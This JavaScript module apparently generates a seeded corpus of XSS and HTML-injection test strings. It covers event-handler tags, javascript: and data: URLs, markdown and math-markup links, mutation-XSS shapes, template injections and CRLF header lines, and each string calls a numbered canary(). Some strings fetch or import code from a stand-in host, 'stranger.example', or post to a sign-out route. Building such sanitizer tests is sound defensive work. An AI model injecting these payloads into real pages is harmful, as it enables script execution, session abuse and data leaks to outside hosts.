// Strings that would run a script, load something from afar or put an element on the page, if a page took them for more
// than text. Made by rules: ways to break out × what is put there × how it is written. Each names itself by a number,
// so that a string that ran can be told.

export const STRANGER = 'stranger.example';

/** What a script would do. Each is a program for the number of its string. */
const PROGRAMS = [
  (n) => `canary(${n})`,
  (n) => `top['can'+'ary'](${n})`,
  (n) => `self.canary\`${n}\``,
  (n) => `\\u0063anary(${n})`,
  (n) => `import('//${STRANGER}/${n}.js')`,
  (n) => `fetch('//${STRANGER}/${n}')`,
  (n) => `location='//${STRANGER}/${n}'`,
  (n) => `new Image().src='//${STRANGER}/${n}'`,
  (n) => `setTimeout('canary(${n})')`,
  (n) => `[${n}].map(canary)`,
  (n) => `Function('canary(${n})')()`,
];

/** How a program is written into an attribute. */
const WRITINGS = [
  (code) => `"${code.replaceAll('"', '&quot;')}"`,
  (code) => `'${code.replaceAll("'", '&apos;')}'`,
  (code) => code.replaceAll(/[\s"'>]/g, ''),
  (code) => `"${entities(code, (point) => `&#${point};`)}"`,
  (code) => `"${entities(code, (point) => `&#x${point.toString(16)}`)}"`,
  (code) => `" \t\n${code.replaceAll('"', '&quot;')}\n"`,
];

/** Places that a page may put a text into, and what would leave them. */
const BREAKS = [
  '', '">', "'>", '`>', '>', '</title>', '</textarea>', '</script>', '</style>', '-->', ']]>', '</template>', '</noscript>',
  '</svg>', '</math>', '</p></div>', '</a>', '</code></pre>', '</mark>', '"/>', '\0', '\ufeff', '<!--><!-->', '</option></select>',
];

const EVENTS = [
  ['img', 'src=x', 'onerror'], ['img', 'src=/static/none', 'onerror'], ['svg', '', 'onload'], ['body', '', 'onload'], ['body', '', 'onpageshow'],
  ['details', 'open', 'ontoggle'], ['video', 'src=x', 'onerror'], ['audio', 'src=x', 'onerror'], ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'], ['textarea', 'autofocus', 'onfocus'], ['button', 'autofocus', 'onfocus'], ['a', 'href=#x autofocus tabindex=1', 'onfocus'],
  ['div', 'tabindex=1 autofocus', 'onfocus'], ['marquee', '', 'onstart'], ['iframe', 'src=/', 'onload'], ['object', 'data=x', 'onerror'], ['embed', 'src=/static/none', 'onerror'],
  ['link', 'rel=stylesheet href=/static/none', 'onerror'], ['style', '', 'onload'], ['script', 'src=/static/none', 'onerror'], ['svg', '><animate attributeName=x dur=1ms', 'onbegin'],
  ['svg', '><set attributeName=x dur=1ms', 'onend'], ['svg', '><image href=x', 'onerror'], ['math', 'tabindex=1 autofocus', 'onfocus'], ['x-own', 'tabindex=1 autofocus contenteditable', 'onfocus'],
  ['div', 'popover id=p', 'onbeforetoggle'], ['p', 'style=animation:spin', 'onanimationstart'], ['dialog', 'open', 'onfocusin'], ['video', '><source src=x', 'onerror'],
  ['span', 'hx-get=/ hx-trigger=load', 'hx-on::load'], ['div', 'hx-trigger=load hx-post=/sign-out', 'hx-on:htmx:load'], ['form', 'action=/sign-out method=post', 'onformdata'],
];

/** How the tag itself is written. */
const TAGS = [
  (tag, rest, event, value) => `<${tag} ${rest} ${event}=${value}>`,
  (tag, rest, event, value) => `<${tag}/${rest.replaceAll(' ', '/')}/${event}=${value}>`,
  (tag, rest, event, value) => `<${tag.toUpperCase()} ${rest} ${event.toUpperCase()} = ${value}>`,
  (tag, rest, event, value) => `<${tag}\f${rest}\f${event}\n=\n${value}//`,
  (tag, rest, event, value) => `<<${tag} ${rest} "x" ${event}=${value} <b`,
  (tag, rest, event, value) => `&lt;${tag} ${rest} ${event}=${value}&gt;`,
  (tag, rest, event, value) => `<${tag} title=">" ${rest} ${event}=${value}>${tag}</${tag}>`,
];

const SCHEMES = [
  (n) => `javascript:canary(${n})`,
  (n) => `JaVaScRiPt:canary(${n})`,
  (n) => ` \x01javascript:canary(${n})`,
  (n) => `java\tscript:canary(${n})`,
  (n) => `java\nscript:canary(${n})`,
  (n) => `javascript&colon;canary(${n})`,
  (n) => `javascript&#58;canary(${n})`,
  (n) => `&#106;avascript:canary&lpar;${n}&rpar;`,
  (n) => `javascript://${STRANGER}/%0acanary(${n})`,
  (n) => `vbscript:canary(${n})`,
  (n) => `data:text/html,<script>canary(${n})</script>`,
  (n) => `data:text/html;base64,${btoa(`<script>canary(${n})</script>`)}`,
  (n) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='canary(${n})'/>`,
  (n) => `data:text/javascript,canary(${n})`,
  (n) => `blob:http://127.0.0.1/${n}`,
  (n) => `filesystem:http://127.0.0.1/${n}`,
  (n) => `file:///etc/${n}`,
  (n) => `view-source:javascript:canary(${n})`,
  (n) => `//${STRANGER}/${n}`,
  (n) => `https://${STRANGER}/${n}.png`,
  (n) => `https:\\\\${STRANGER}\\${n}`,
  (n) => `https://${STRANGER}/"onmouseover="canary(${n})`,
  (n) => `https://${STRANGER}/'><img src=x onerror=canary(${n})>`,
  (n) => `https://127.0.0.1@${STRANGER}/${n}`,
];

/** Elements that go to an address by themselves or by a click. */
const GOING = [
  (to) => `<a href="${to}">look</a>`, (to) => `<a href='${to}' ping='//${STRANGER}/ping'>look</a>`, (to) => `<area shape=default href="${to}">`, (to) => `<base href="${to}">`,
  (to) => `<iframe src="${to}"></iframe>`, (to) => `<iframe srcdoc="<script src='${to}'></script>"></iframe>`, (to) => `<embed src="${to}">`, (to) => `<object data="${to}"></object>`,
  (to) => `<form action="${to}"><button autofocus>go</button></form>`, (to) => `<button formaction="${to}" form=selection>go</button>`, (to) => `<img src="${to}">`, (to) => `<img srcset="${to} 2x">`,
  (to) => `<picture><source srcset="${to}"><img></picture>`, (to) => `<video poster="${to}"></video>`, (to) => `<audio src="${to}" autoplay></audio>`, (to) => `<track src="${to}">`, (to) => `<input type=image src="${to}">`,
  (to) => `<script src="${to}"></script>`, (to) => `<script type=module>import "${to}"</script>`, (to) => `<link rel=stylesheet href="${to}">`, (to) => `<link rel=preload as=script href="${to}">`, (to) => `<link rel=prefetch href="${to}">`,
  (to) => `<link rel=import href="${to}">`, (to) => `<link rel=manifest href="${to}">`, (to) => `<link rel=dns-prefetch href="${to}">`, (to) => `<meta http-equiv=refresh content="0;url=${to}">`,
  (to) => `<svg><a href="${to}"><text y=9>look</text></a></svg>`, (to) => `<svg><a xlink:href="${to}"><rect width=9 height=9 /></a></svg>`, (to) => `<svg><use href="${to}#x"/></svg>`, (to) => `<svg><image href="${to}"/></svg>`,
  (to) => `<svg><script href="${to}"/></svg>`, (to) => `<svg><feImage href="${to}"/></svg>`, (to) => `<svg><a><animate attributeName=href values="${to}"/></a></svg>`, (to) => `<svg><set attributeName=onmouseover to="${to}"/></svg>`,
  (to) => `<math href="${to}"><mtext>look</mtext></math>`, (to) => `<math><maction actiontype=statusline#x xlink:href="${to}">look</maction></math>`, (to) => `<table background="${to}"><td background="${to}">`, (to) => `<body background="${to}">`,
  (to) => `<blockquote cite="${to}">x</blockquote>`, (to) => `<portal src="${to}">`, (to) => `<fencedframe src="${to}">`, (to) => `<applet code="${to}">`, (to) => `<frameset><frame src="${to}"></frameset>`, (to) => `<div hx-get="${to}" hx-trigger=load>`,
  (to) => `<div data-hx-get="${to}" data-hx-trigger="load">`, (to) => `<a href="x" hx-boost=true hx-push-url="${to}">`, (to) => `<div data-preview="${to}" class="hit is-selected">`, (to) => `<a data-copy-from href="${to}">`,
];

/** Markdown that leads somewhere. */
const MARKDOWN = [
  (to) => `[look](${to})`, (to) => `[look](<${to}>)`, (to) => `![look](${to})`, (to) => `![look](<${to}> "title")`, (to) => `<${to}>`, (to) => `[look]: ${to}\n\n[look]`, (to) => `![look][it]\n\n[it]: <${to}> 'x'`,
  (to) => `[![look](${to})](${to})`, (to) => `[look](https://fine.example "${to}\\" onload=\\"canary(0)")`, (to) => `- [ ] [look](${to})`, (to) => `> # [look](${to})`, (to) => `| a |\n|---|\n| [look](${to}) |`,
  (to) => `\`\`\`${to}\n<img src=x onerror=canary(0)>\n\`\`\``, (to) => `~~~ html" onload="canary(0)\n${to}\n~~~`, (to) => `[look](\n${to}\n)`, (to) => `**[look](${to})**_`, (to) => `[^1]\n\n[^1]: [look](${to})`, (to) => `$\\href{${to}}{x}$`, (to) => `$$\\url{${to}}$$`,
  (to) => `$\\text{</mtext><img src="${to}">}$`, (to) => `$$\\class{x" href="${to}}{y}$$`, (to) => `\\(\\style{background:url(${to})}{x}\\)`, (to) => `$\\includegraphics{${to}}$`, (to) => `\\<a href="${to}">look</a>`, (to) => `\`<a href="${to}">\``, (to) => `    <a href="${to}">`,
  (to) => `<details><summary>x</summary>\n\n[look](${to})\n\n</details>`, (to) => `[look](${to} )[`, (to) => `www.fine.example/${to}`, (to) => `https://fine.example/?${to}`, (to) => `[cite: 1](${to})【1†${to}】`,
];

/** Shapes that are one tree when read and another when written and read again. `inside` is an element that would run. */
const MUTATING = [
  (inside) => `<math><mtext><table><mglyph><style><!--</style>${inside}-->`,
  (inside) => `<math><mi><table><mtr></table><style></math>${inside}</style>`,
  (inside) => `<svg></p><style><a id="</style>${inside}">`,
  (inside) => `<svg><desc><p><style><i title="</style>${inside}"></i></style>`,
  (inside) => `<form><math><mtext></form><form><mglyph><style></math>${inside}`,
  (inside) => `<noscript><p title="</noscript>${inside}">`,
  (inside) => `<template><style></template>${inside}</style>`,
  (inside) => `<select><style></select>${inside}</style>`,
  (inside) => `<xmp><p title="</xmp>${inside}">`,
  (inside) => `<listing>&lt;/listing&gt;${inside}`,
  (inside) => `<plaintext>${inside}`,
  (inside) => `<textarea><p title="</textarea>${inside}">`,
  (inside) => `<title><p title="</title>${inside}">`,
  (inside) => `<iframe><p title="</iframe>${inside}">`,
  (inside) => `<noembed><p title="</noembed>${inside}">`,
  (inside) => `<noframes><p title="</noframes>${inside}">`,
  (inside) => `<svg><foreignObject><math><annotation-xml encoding="text/html">${inside}</annotation-xml></math></foreignObject></svg>`,
  (inside) => `<math><annotation-xml encoding="application/xhtml+xml"><svg>${inside}`,
  (inside) => `<!--[if IE]>${inside}<![endif]-->`,
  (inside) => `<!-- --!>${inside}-->`,
  (inside) => `<!--> ${inside} -->`,
  (inside) => `<?xml version="1.0"?>${inside}<?`,
  (inside) => `<![CDATA[${inside}]]>`,
  (inside) => `<svg><![CDATA[</svg>${inside}]]>`,
  (inside) => `<a><a><a><b><table><tr>${inside}</b></a></table>`,
  (inside) => `<table><caption><svg><title></table>${inside}`,
  (inside) => `<p><svg><p>${inside}</svg>`,
  (inside) => `<b attr="&quot;>${inside}">`,
  (inside) => `<b title="${inside.replaceAll('"', '&quot;')}">x`,
  (inside) => `<span class="math">\\(${inside}\\)</span>`,
  (inside) => `\`\`\`\n\`\`\`${inside}\n\`\`\``,
  (inside) => `${'<div>'.repeat(300)}${inside}`,
  (inside) => `${'> '.repeat(40)}${inside}`,
  (inside) => `${'*'.repeat(60)}${inside}${'_'.repeat(60)}`,
];

const INSIDES = [
  (n) => `<img src=x onerror=canary(${n})>`, (n) => `<svg onload=canary(${n})>`, (n) => `<script>canary(${n})</script>`, (n) => `<iframe srcdoc="<script>parent.canary(${n})</script>">`, (n) => `<details open ontoggle="canary(${n})">x</details>`,
  (n) => `<a href="javascript:canary(${n})">look</a>`, (n) => `<style>@import '//${STRANGER}/${n}'</style>`, (n) => `<input autofocus onfocus=canary(${n})>`, (n) => `<link rel=stylesheet href=//${STRANGER}/${n}>`,
];

/** Texts that a template, a script or a style sheet would take for its own. */
const FOREIGN = [
  (n) => `\${canary(${n})}`, (n) => `{{constructor.constructor('canary(${n})')()}}`, (n) => `<%= canary(${n}) %>`, (n) => `#{canary(${n})}`, (n) => `@{canary(${n})}`, (n) => `*{canary(${n})}`, (n) => `[[\${canary(${n})}]]`,
  (n) => `$unsafe{"<script>canary(${n})</script>"}`, (n) => `@raw<script>canary(${n})</script>@endraw`, (n) => `@if(true)<script>canary(${n})</script>@endif`, (n) => `!{canary(${n})}`, (n) => `{% include '//${STRANGER}/${n}' %}`,
  (n) => `';canary(${n});//`, (n) => `";canary(${n});//`, (n) => `\\";canary(${n});//`, (n) => `\\x27;canary(${n});//`, (n) => `\u2028canary(${n})\u2028`, (n) => `</script><script>canary(${n})</script>`, (n) => `\`+canary(${n})+\``,
  (n) => `*/}canary(${n})/*`, (n) => `}*{background:url(//${STRANGER}/${n})}`, (n) => `;background:url(//${STRANGER}/${n})`, (n) => `expression(canary(${n}))`, (n) => `+ADw-script+AD4-canary(${n})+ADw-/script+AD4-`,
  (n) => `\uff1cscript\uff1ecanary(${n})\uff1c/script\uff1e`, (n) => `%3Cscript%3Ecanary(${n})%3C/script%3E`, (n) => `%253Cscript%253Ecanary(${n})`, (n) => `\\u003cscript\\u003ecanary(${n})\\u003c/script\\u003e`, (n) => `\\x3cscript\\x3ecanary(${n})`,
  (n) => `<scr<script>ipt>canary(${n})</scr</script>ipt>`, (n) => `<scr\0ipt>canary(${n})</scr\0ipt>`, (n) => `<\u200bscript>canary(${n})</script>`, (n) => `<script\u2028>canary(${n})</script>`, (n) => `<a id=canary name=canary href=tel:${n}>`,
  (n) => `<form id=htmx name=htmx><input name=config value=${n}></form>`, (n) => `<img name=getElementById id=q data-n=${n}>`, (n) => `<meta name=htmx-config content='{"allowEval":true,"n":${n}}'>`, (n) => `<svg id=site-claude><script>canary(${n})</script></svg>`,
  (n) => `Set-Cookie: x=${n}\r\nLocation: //${STRANGER}`, (n) => `x\r\n\r\n<script>canary(${n})</script>`,
];

/** Values that would leave an attribute without an angle bracket. */
const ATTRIBUTES = [
  'onfocus=* autofocus', 'onmouseover=* style=position:fixed;inset:0', 'onpointerenter=*', 'onclick=* accesskey=x', 'onanimationend=* style=animation:spin', 'autofocus tabindex=0 onfocusin=*', 'style=background:url(//stranger.example/) onload=*',
  'hx-on:load=*', 'hx-on::after-process-node=* hx-get=/', 'formaction=javascript:*', 'href=javascript:* x', 'srcdoc=<script>*</script>', 'ontoggle=* popover', 'oncontentvisibilityautostatechange=* style=content-visibility:auto', 'onsecuritypolicyviolation=*',
];
const QUOTES = ['" ', "' ", '` ', '"/', '&quot; ', '&#34;', '\\" ', '\n" '];

function entities(text, write) {
  return [...text].map((sign) => write(sign.codePointAt(0))).join('');
}

/** Every string by its rules, as makers for a number; in an order that mixes nothing yet. */
function* makers() {
  for (const [at, [tag, rest, event]] of EVENTS.entries())
    for (const [place, lead] of BREAKS.entries()) {
      // Not the full product: each element meets each way out, and every writing and program in turn.
      const [write, style, program] = [WRITINGS[(at + place) % WRITINGS.length], TAGS[(at * 3 + place) % TAGS.length], PROGRAMS[(at * 5 + place * 7) % PROGRAMS.length]];
      yield ['events', (n) => lead + style(tag, rest, event, write(program(n)))];
    }
  for (const [at, go] of GOING.entries()) for (const [place, scheme] of SCHEMES.entries()) yield ['addresses', (n) => BREAKS[(at + place) % 6] + go(scheme(n))];
  for (const write of MARKDOWN) for (const scheme of SCHEMES) yield ['markdown', (n) => write(scheme(n))];
  for (const shape of MUTATING) for (const inside of INSIDES) yield ['mutating', (n) => shape(inside(n))];
  for (const foreign of FOREIGN) for (const lead of BREAKS.slice(0, 5)) yield ['foreign', (n) => lead + foreign(n)];
  for (const quote of QUOTES) for (const value of ATTRIBUTES) yield ['attributes', (n) => `${quote}${value.replace('*', `canary(${n})`)} x=${quote.trim()}`];
  for (const scheme of SCHEMES) yield ['bare addresses', (n) => scheme(n)];
}

/** A mixing of its own for each seed, the same on every machine. */
function shuffled(list, seed) {
  let state = seed >>> 0;
  const next = () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state / 2 ** 32;
  };
  const mixed = [...list];
  for (let at = mixed.length - 1; at > 0; at--) {
    const other = Math.floor(next() * (at + 1));
    [mixed[at], mixed[other]] = [mixed[other], mixed[at]];
  }
  return mixed;
}

/** Distinct strings, mixed by the seed; each as `{ n, family, text }`. Without a count, all of them. */
export function hostileStrings(seed = 1, count = Infinity) {
  const known = new Set();
  const kept = [...makers()].filter(([, make]) => !known.has(make(0)) && known.add(make(0)));
  return shuffled(kept, seed)
    .slice(0, count)
    .map(([family, make], n) => ({ n: n + 1000, family, text: make(n + 1000) }));
}
